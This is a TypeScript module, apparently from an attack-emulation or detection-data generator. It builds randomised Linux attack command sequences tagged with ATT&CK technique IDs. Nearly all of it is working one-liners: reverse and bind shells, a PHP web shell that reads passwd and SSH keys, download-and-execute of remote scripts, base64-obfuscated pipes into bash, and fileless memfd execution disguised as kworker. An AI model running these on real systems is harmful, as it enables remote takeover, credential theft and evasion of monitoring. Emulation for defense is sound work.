import type { Draw } from '../draw.ts';
import type { Attack, Place } from '../scenario.ts';

const peer = (draw: Draw, place: Place): string => draw.pick(place.peers);
const port = (draw: Draw, place: Place): number => draw.pick(place.peerPorts);

/** Command channels, downloads, what runs without a file. */
export const ACCESS: readonly Attack[] = [
  {
    name: 'shell-over-dev-tcp',
    family: 'reverse-shell',
    techniques: ['T1059.004', 'T1071.001'],
    as: 'either',
    needs: [],
    lines: (draw, place) => {
      const to = `/dev/tcp/${peer(draw, place)}/${port(draw, place)}`;
      return [
        draw.pick([
          `bash -i >& ${to} 0>&1 &`,
          `bash -c 'bash -i >& ${to} 0>&1' &`,
          `exec 5<>${to}; while read l <&5; do $l 2>&5 >&5; done &`,
          `0<&196;exec 196<>${to}; sh <&196 >&196 2>&196 &`,
        ]),
        ...(draw.chance(0.5)
          ? [`sleep ${draw.int(15, 50)}`, 'jobs']
          : ['cd /tmp', `sleep ${draw.int(10, 30)}`]),
      ];
    },
  },
  {
    name: 'shell-by-interpreter',
    family: 'reverse-shell',
    techniques: ['T1059.006', 'T1059.004'],
    as: 'either',
    needs: ['python3', 'perl', 'php'],
    lines: (draw, place) => {
      const [host, at] = [peer(draw, place), port(draw, place)];
      return [
        draw.pick([
          `python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("${host}",${at}));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(["/bin/sh","-i"])' &`,
          `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(${at},inet_aton("${host}")));open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");' &`,
          `php -r '$s=fsockopen("${host}",${at});proc_open("/bin/sh -i",[$s,$s,$s],$p);sleep(30);' &`,
        ]),
        `sleep ${draw.int(15, 45)}`,
      ];
    },
  },
  {
    name: 'shell-by-relay',
    family: 'reverse-shell-relay',
    techniques: ['T1059.004', 'T1095'],
    as: 'either',
    needs: ['nc', 'socat', 'mkfifo'],
    lines: (draw, place) => {
      const [host, at, pipe] = [peer(draw, place), port(draw, place), `/tmp/${draw.file('')}`];
      return [
        draw.pick([
          `rm -f ${pipe}; mkfifo ${pipe}; cat ${pipe} | /bin/sh -i 2>&1 | nc ${host} ${at} > ${pipe} &`,
          `socat TCP:${host}:${at} EXEC:/bin/bash,pty,stderr,setsid &`,
          `socat TCP:${host}:${at} SYSTEM:/bin/sh &`,
        ]),
        `sleep ${draw.int(15, 45)}`,
        ...(draw.chance(0.5) ? [`rm -f ${pipe}`] : []),
      ];
    },
  },
  {
    name: 'bind-shell',
    family: 'bind-shell',
    techniques: ['T1059.004', 'T1205'],
    as: 'either',
    needs: ['socat', 'nc'],
    lines: (draw, place) => {
      const [own = 20_000] = place.ports;
      return [
        draw.pick([
          `socat TCP-LISTEN:${own},reuseaddr,fork EXEC:/bin/bash &`,
          `python3 -c 'import socket,subprocess as s;k=socket.socket();k.setsockopt(1,2,1);k.bind(("0.0.0.0",${own}));k.listen(1);c,a=k.accept();s.call(["/bin/sh","-i"],stdin=c,stdout=c,stderr=c)' &`,
        ]),
        `(sleep ${draw.int(2, 9)}; printf 'id\\nuname -a\\nls /home\\ncat /etc/passwd\\n' | nc -w 5 127.0.0.1 ${own}) > /dev/null &`,
        `sleep ${draw.int(15, 30)}`,
        ...(draw.chance(0.5) ? ['kill %1'] : []),
      ];
    },
  },
  {
    name: 'web-shell',
    family: 'web-shell',
    techniques: ['T1505.003', 'T1059.004'],
    as: 'either',
    needs: ['php', 'curl'],
    lines: (draw, place) => {
      const [own = 20_000] = place.ports;
      const [folder, page] = [`/var/tmp/${draw.word()}`, draw.file('.php')];
      const calls = draw.some(
        [
          'id',
          'uname -a',
          'cat /etc/passwd',
          'ls -la /home',
          'ps aux',
          'ss -tln',
          'env',
          'find / -maxdepth 2 -name "*.conf"',
          'cat ~/.ssh/id_ed25519',
        ],
        draw.int(3, 7),
      );
      return [
        `mkdir -p ${folder} && cd ${folder} && echo '<?php echo shell_exec($_REQUEST["q"]);' > ${page}`,
        `php -S ${draw.pick(['127.0.0.1', place.address])}:${own} -t ${folder} >/dev/null 2>&1 &`,
        `for c in ${calls.map((one) => `'${one}'`).join(' ')}; do curl -s -G --data-urlencode "q=$c" http://${draw.pick(['127.0.0.1', place.address])}:${own}/${page} > /dev/null; sleep ${draw.int(1, 6)}; done`,
        ...(draw.chance(0.5) ? ['kill %1; cd'] : ['cd']),
      ];
    },
  },
  {
    name: 'tool-transfer',
    family: 'tool-transfer',
    techniques: ['T1105', 'T1059.004', 'T1222.002'],
    as: 'either',
    needs: ['curl', 'wget', 'python3'],
    lines: (draw, place) => {
      const file = `${draw.pick(['/tmp', '/dev/shm', '/var/tmp', '/tmp/.cache', place.home])}/${draw.file('')}`;
      const from = `http://${peer(draw, place)}:${port(draw, place)}/${draw.word()}`;
      return [
        `mkdir -p $(dirname ${file})`,
        draw.pick([
          `curl -fs ${from}.sh -o ${file}`,
          `wget -q ${from}.sh -O ${file}`,
          `python3 -c 'import urllib.request as u;open("${file}","wb").write(u.urlopen("${from}.sh").read())'`,
          `exec 7<>/dev/tcp/${peer(draw, place)}/${port(draw, place)}; printf 'GET /${draw.word()}.sh HTTP/1.0\\r\\n\\r\\n' >&7; sed '1,/^.$/d' <&7 > ${file}`,
        ]),
        `chmod ${draw.pick(['+x', '755', '777'])} ${file}`,
        draw.pick([`${file}`, `nohup ${file} >/dev/null 2>&1 &`, `sh ${file}`]),
        ...(draw.chance(0.6) ? [`sleep ${draw.int(3, 10)}; rm -f ${file}`] : []),
      ];
    },
  },
  {
    name: 'decoded-pipe',
    family: 'obfuscation',
    techniques: ['T1140', 'T1027', 'T1059.004'],
    as: 'either',
    needs: ['base64', 'curl'],
    lines: (draw, place) => {
      const command = draw.pick([
        'id; uname -a; cat /etc/passwd | head -3',
        `curl -s http://${peer(draw, place)}:${port(draw, place)}/a.sh | sh`,
        'for u in $(cut -d: -f1 /etc/passwd | head -5); do id $u; done',
      ]);
      const encoded = Buffer.from(command).toString('base64');
      const hex = Buffer.from(command).toString('hex');
      return [
        draw.pick([
          `echo ${encoded} | base64 -d | bash`,
          `bash -c "$(echo ${encoded} | base64 -d)"`,
          `echo ${hex} | xxd -r -p | sh`,
          `eval "$(printf '%s' ${encoded} | base64 --decode)"`,
          `python3 -c 'import base64,os;os.system(base64.b64decode("${encoded}").decode())'`,
        ]),
        ...(draw.chance(0.5)
          ? [
              `curl -s http://${peer(draw, place)}:${port(draw, place)}/${draw.word()}.sh | base64 | base64 -d | bash`,
            ]
          : []),
      ];
    },
  },
  {
    name: 'from-memory',
    family: 'fileless',
    techniques: ['T1620', 'T1055', 'T1036.004'],
    as: 'either',
    needs: ['python3'],
    lines: (draw) => {
      const name = draw.pick(['', draw.word(), 'kworker/0:1']);
      const program = draw.pick(['/usr/bin/id', '/bin/ls', '/usr/bin/whoami', '/usr/bin/uname']);
      return [
        `python3 -c 'import os;f=os.memfd_create("${name}",0);os.write(f,open("${program}","rb").read());p=os.fork()
if p==0: os.execve("/proc/self/fd/%d"%f,["${draw.pick(['[kworker/1:2]', 'sshd', draw.word()])}"],{})
os.waitpid(p,0)'`,
        ...(draw.chance(0.5)
          ? [
              `bash -c 'exec -a "[kworker/u4:${draw.int(0, 9)}]" sleep ${draw.int(10, 40)}' &`,
              'ps aux | tail -5',
            ]
          : []),
      ];
    },
  },
];
